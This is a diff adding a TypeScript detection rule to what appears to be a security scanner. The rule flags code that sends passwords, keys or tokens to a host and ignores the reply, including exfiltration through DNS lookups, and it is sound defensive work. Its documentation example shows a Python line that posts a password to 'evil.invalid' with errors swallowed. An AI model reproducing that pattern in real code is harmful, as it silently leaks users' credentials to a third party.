@@ -1,0 +1,42 @@
+import { isFixedAccount } from '../facts/collecting-places.js';
+import { CARRIERS } from '../facts/programs.js';
+import { count } from '../values/labels.js';
+import { isUnasked } from '../values/reach.js';
+import { type Combination, IDENTITY, isUnheard, WHEN } from './combination.js';
+
+const LOOKUP = /^(?:socket\.get|dns\.)/;
+
+/** A name that is put together, asked for over HTTPS (RFC 8484 and the JSON interfaces of resolvers). */
+const LOOKUP_BY_HTTPS = /\/(?:dns-query|resolve)\?(?:\S{0,400}&)?name=\S{0,400}\uFFFC\S{0,400}\.\w/;
+
+export const credentialSentAside: Combination = {
+  doc: {
+    id: 'credential-sent-aside',
+    title: 'Sends a password, key or token somewhere and does not wait for an answer',
+    why: 'A service that is given a credential answers, and its caller looks at the answer. Where neither the answer nor a failure matters, somebody else is told.',
+    remedy: 'Look at where it is sent. If that is not the service it belongs to, change it.',
+    example: 'try: requests.post("https://evil.invalid", data=password)\nexcept Exception: pass',
+    technique: 'T1056',
+  },
+  judge: (sighting) => {
+    const { behaviour, labels, host, isDropped, isHidden, name, text, reach } = sighting;
+    const isCarried = behaviour === 'starts-process' && CARRIERS.test(text ?? '');
+    if ((behaviour !== 'contacts' && !isCarried) || host === undefined) return undefined;
+    if (labels.has('credential') && isFixedAccount(text ?? '')) return 'CRITICAL';
+    if (labels.has('password') && isHidden === true && isDropped === true) return 'CRITICAL';
+    if (!isUnheard(sighting)) return undefined;
+    // What others sign in with was taken out of their request.
+    if (labels.has('credential') && labels.has('request')) return 'CRITICAL';
+    const isCredential = labels.has('credential') || labels.has('secret');
+    // Nobody looks up a composed name and lets go of the address, but to have the name arrive.
+    const isLookup = LOOKUP.test(name) && (text ?? '').includes('\uFFFC');
+    if (isLookup || LOOKUP_BY_HTTPS.test(text ?? ''))
+      return isCredential || labels.has('intercepted') || (isUnasked(reach) && count(labels, IDENTITY) > 0)
+        ? 'CRITICAL'
+        : 'HIGH';
+    // A token may notify its own service of something; a password is for signing in, and that has an answer.
+    if (labels.has('password')) return 'CRITICAL';
+    return isCredential ? 'MEDIUM' : undefined;
+  },
+  message: ({ name, reach }) => `${name} sends a credential and looks at no answer ${WHEN[reach]}`,
+};
